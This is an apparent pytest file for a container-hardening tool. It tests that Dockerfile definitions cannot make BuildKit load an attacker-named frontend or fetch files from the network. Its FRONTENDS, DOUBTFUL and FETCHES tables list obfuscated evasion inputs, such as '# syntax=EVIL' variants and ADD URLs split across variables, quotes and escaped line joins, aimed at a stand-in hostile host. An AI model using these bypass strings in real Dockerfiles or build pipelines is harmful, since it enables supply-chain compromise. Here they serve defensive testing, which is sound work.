"""What a definition's Dockerfile may not say, tried on BuildKit itself: what it would fetch, and that it does not."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest

from hardening.foundation.errors import ContentError, OutsideError
from hardening.foundation.process import run
from images.build import BuildJob, build, buildkit, dockerfile
from images.store.oci import Store
from tests.images.build.test_builders import GOLDEN, STEPS, rendered
from tests.support.building import NOTHING, definition
from tests.support.hostile import Hostile, hostile
from tests.support.planted import plant_repository

END = "FROM {{ base }}\n{{ install }}\n{{ harden }}"
# By name: a beginning of a Dockerfile that names another frontend, EVIL. BuildKits differ in which of them they follow.
FRONTENDS = {
    "plain": "# syntax=EVIL\n",
    "without a space": "#syntax=EVIL\n",
    "capitals": "# SYNTAX = EVIL\n",
    "slashes": "// syntax=EVIL\n",
    "slashes without a space": "//syntax=EVIL\n",
    "shebang": "#!/bin/sh\n# syntax=EVIL\n",
    "shebang and slashes": "#!/bin/sh\n// syntax=EVIL\n",
    "after escape": "# escape=`\n# syntax=EVIL\n",
    "line ends of Windows": "# syntax=EVIL\r\n",
    "json": '{"syntax": "EVIL"}',
    "json after blanks": ' \n\t{"a": "b", "syntax": "EVIL"}\n',
}
# What BuildKit 0.13 passes over and another one may not.
DOUBTFUL = {
    "byte order mark": "\ufeff# syntax=EVIL\n",
    "byte order mark and shebang": "\ufeff#!/bin/sh\n#syntax=EVIL\n",
    "after check": "# check=skip=all\n# syntax=EVIL\n",
    "check alone": "# check=error=false\n",
    "escape alone": "# escape=`\n",
    "indented": "  # syntax=EVIL\n",
    "after blanks": "\n \n# syntax=EVIL\n",
    "after a comment": "# hello\n# syntax=EVIL\n",
    "no-break space": "#\u00a0syntax=EVIL\n",
    "a form feed": "\x0c# syntax=EVIL\n",
    "a carriage return": "# hello\r# syntax=EVIL\n",
    "shebang alone": "#!/bin/sh\n",
}
# By name: a step that takes something from EVIL, which is an address of HTTP.
FETCHES = {
    "address": "ADD http://EVIL/x /x",
    "variable": "ARG A=http://EVIL/x\nADD $A /x",
    "variables in parts": "ARG A=ht\nARG B=tp://EVIL/x\nADD ${A}${B} /x",
    "default of a variable": "ADD ${A:-ht}tp://EVIL/x /x",
    "quotes": 'ADD h"tt"p://EVIL/x /x',
    "escaped letter": "ADD htt\\p://EVIL/x /x",
    "list with escapes": 'ADD ["ht\\u0074p:\\/\\/EVIL/x", "/x"]',
    "list with a variable": 'ARG A=http://EVIL/x\nADD ["$A", "/x"]',
    "joined lines": "ADD ht\\\ntp://EVIL/x /x",
    "after a line that ends in two backslashes": "WORKDIR /x\\\\\nADD http://EVIL/x /x",
    "and a space": "WORKDIR /x\\\\ \nADD http://EVIL/x /x",
}
ASKED = re.compile(r"(?m)^#\d+ (?:resolve image config|\[internal\] load metadata) for (\S+)$")


@pytest.fixture(scope="module")
def engine() -> str:
    """An engine that can build."""
    if given := os.environ.get("GOLDSMITH_TEST_DOCKER") or os.environ.get("DOCKER_HOST"):
        return given
    from hardening.foundation.settings import load_settings
    from pipelines.host.provision import docker_host

    return docker_host(load_settings(), for_builds=True)


def asked_by_buildkit(text: str, server: Hostile, engine: str, folder: Path) -> list[str]:
    """What BuildKit asks for when it is to build the Dockerfile `text`, which may well fail: frontends and images, by
    its own words (it tries TLS, which the server does not speak), and paths of `server`.
    """
    (folder / "context").mkdir(exist_ok=True)
    (folder / "Dockerfile").write_bytes(text.replace("EVIL", server.authority).encode())
    before = len(server.asked)
    argv = ["docker", "buildx", "build", "--progress", "plain", "--no-cache", "--network", "none", "--provenance=false"]
    argv += ["--file", str(folder / "Dockerfile"), "--output", f"type=tar,dest={folder / 'out.tar'}"]
    told = run([*argv, str(folder / "context")], env={"DOCKER_HOST": engine}, ok=(0, 1)).stderr
    assert "load build definition" in told
    return [*server.paths[before:], *ASKED.findall(told)]


@pytest.mark.needs("docker")
@pytest.mark.parametrize("name", FRONTENDS)
def test_buildkit_never_loads_a_frontend_that_a_definition_names(name: str, engine: str, tmp_path: Path) -> None:
    """As it stands BuildKit goes out to fetch it; behind our own first line it does not; and we refuse it before."""
    text = FRONTENDS[name].replace("EVIL", "EVIL/evil/frontend:1")
    with hostile() as server:
        rest = "" if "{" in text else "FROM scratch\n"
        [frontend] = asked_by_buildkit(text + rest, server, engine, tmp_path)
        assert frontend.endswith(f"{server.authority}/evil/frontend:1")
        document = f"{dockerfile.HEADER}{text}FROM scratch\nCOPY . /\n"
        assert asked_by_buildkit(document, server, engine, tmp_path) == []
    assert rendered(GOLDEN, text + END, tmp_path)


@pytest.mark.needs("docker")
def test_no_doubtful_beginning_gets_past_our_first_line(engine: str, tmp_path: Path) -> None:
    """Whatever this BuildKit makes of them alone."""
    with hostile() as server:
        together = "".join(DOUBTFUL.values()).replace("EVIL", "EVIL/evil/frontend:1")
        assert asked_by_buildkit(f"{dockerfile.HEADER}{together}FROM scratch\n", server, engine, tmp_path) == []


@pytest.mark.needs("docker")
def test_a_definition_that_is_itself_a_repository_runs_nothing_here(engine: str, tmp_path: Path) -> None:
    """Left alone, buildx runs git in the folder that it sends, outside of any container."""
    for folder in ("definition", "work"):
        (tmp_path / folder).mkdir()
    plant_repository(tmp_path / "definition", tmp_path / "ran")
    job = on_empty_base(tmp_path, {}, engine)
    base = job.parent or ""
    with pytest.raises(ContentError, match="a step failed"):  # the base has no shell
        buildkit._run(job, base, buildkit._prepare(job, base, 0))
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("name", DOUBTFUL)
def test_a_doubtful_beginning_is_refused(name: str, tmp_path: Path) -> None:
    """A directive, a byte order mark or an invisible character, also one that the template makes."""
    assert rendered(GOLDEN, DOUBTFUL[name].replace("\r", "{{ '\\r' }}") + END, tmp_path)


@pytest.mark.needs("docker")
@pytest.mark.parametrize("name", FETCHES)
def test_nothing_is_added_from_the_network(name: str, engine: str, tmp_path: Path) -> None:
    """BuildKit would fetch each of them, network or none; ours refuses it."""
    with hostile() as server:
        assert asked_by_buildkit(f"FROM scratch\n{FETCHES[name]}\n", server, engine, tmp_path) == ["/x"]
    assert rendered(GOLDEN, STEPS % FETCHES[name], tmp_path)


@pytest.mark.needs("docker")
def test_a_name_that_goes_on_in_the_next_line_is_read_whole(engine: str, tmp_path: Path) -> None:
    """BuildKit joins the lines without a space: what begins like an earlier stage is an image of a registry."""
    with hostile() as server:
        port = server.authority.rpartition(":")[2]
        step = f"COPY --from=l\\\nocalhost:{port}/x:1 /x /x"
        asked = asked_by_buildkit(f"FROM scratch AS l\nFROM scratch\n{step}\n", server, engine, tmp_path)
    assert asked == [f"localhost:{port}/x:1"]
    body = END.replace("FROM", "FROM {{ base }} AS l\nFROM").replace("{{ harden }}", f"{step}\n{{{{ harden }}}}")
    assert "COPY takes files from localhost:" in rendered(GOLDEN, body, tmp_path)


@pytest.mark.parametrize(
    ("step", "problem"),
    [
        ("ADD x.tar /x", ""),
        ("ADD --chown=1:1 --chmod=0644 x.tar y.tar /x/", ""),
        ('ADD ["a b.tar", "/x"]', ""),
        ("ARG A=1\nRUN echo $A", ""),
        ("ADD a-@example.com:x/y.git /x", "ADD from the network"),
        ("ADD 'x' /x", "ADD of 'x'"),
        ("ADD " + "[" * 20_000 + '"x"', "ADD of "),
        ("COPY --from=$A /x /x", "COPY takes files from $A"),
        ("RUN --mount=type=bind,from=$A,target=/x true", "RUN takes files from $A"),
        ("RUN --mount=type=bind,from=0\\\nevil.example/x,target=/x true", "RUN takes files from 0evil.example/x"),
        ("RUN --network=none <\\\n<RUN\nRUN", "here-document"),
        ("RUN true &&\\\n  # a word\n\n  true", ""),
        ("RUN --mount=type=cache,target=/x true", "RUN --mount=type=cache"),
        ("RUN --mount=type=secret,id=x true", "RUN --mount=type=secret"),
        ("RUN --mount=type=tmpfs,target=/x true", ""),
        ("RUN --security=insecure true", "RUN --security"),
        ("RUN --network=none --network=host true", "steps have no network"),
        ("FROM {{ base }} AS overlay\nRUN true", "overlay"),
        ("FROM {{ base }} AS DEBS\nRUN true", "debs"),
        ("COPY ${x:-<<EOF} /x", "here-document"),
        ("HEALTHCHEC\u212a CMD true", "HEALTHCHEC"),
        ("MAINTAINER x", "MAINTAINER"),
        ("RUN true\u2028ENV A=1", "character"),
        ("RUN true\x1fENV A=1", "character"),
    ],
)
def test_a_step_is_read_as_buildkit_reads_it(step: str, problem: str, tmp_path: Path) -> None:
    """What it may be is listed; what a variable or a quote could turn into something else is refused."""
    found = rendered(GOLDEN, STEPS % step, tmp_path)
    assert problem in found
    assert bool(problem) == bool(found)


def test_our_own_first_line_comes_first(tmp_path: Path) -> None:
    """In every Dockerfile that BuildKit gets."""
    text = buildkit.dockerfile_of(definition(GOLDEN), tmp_path, (), "sha256:" + "a" * 64, 1)
    assert text.startswith(dockerfile.HEADER)
    (tmp_path / "Dockerfile.j2").write_text(FRONTENDS["plain"] + END)
    with pytest.raises(ContentError, match="directive"):
        buildkit.dockerfile_of(definition(GOLDEN), tmp_path, (), "sha256:" + "a" * 64, 1)


def on_empty_base(folder: Path, config: dict[str, list[str]], engine: str = "") -> BuildJob:
    """The job of `folder`/definition on a base without layers, which has this configuration."""
    store, roots = Store(folder / "store"), {"type": "layers", "diff_ids": list[str]()}
    base = store.write_image({"architecture": "amd64", "os": "linux", "config": config, "rootfs": roots}, [])
    return BuildJob(
        name="x", definition=definition(GOLDEN), definition_folder=folder / "definition", platform="linux/amd64",
        overlay=NOTHING, packages=(), debs={}, stanzas="", sources="", parent=base.digest, upstream=None,
        work=folder / "work", store=store, docker_host=engine,
    )  # fmt: skip


def test_a_base_that_runs_steps_in_its_children_is_refused(tmp_path: Path) -> None:
    """BuildKit would run the ONBUILD of a stranger's configuration, an ADD from the network among them."""
    (tmp_path / "work").mkdir()
    job = on_empty_base(tmp_path, {"OnBuild": ["ADD http://example.com/x /x"]})
    with pytest.raises(OutsideError, match="ONBUILD") as error:
        build(job)
    assert "http://example.com/x" in error.value.evidence
    plain = on_empty_base(tmp_path, {})
    buildkit.require_plain(plain.store, plain.parent or "")
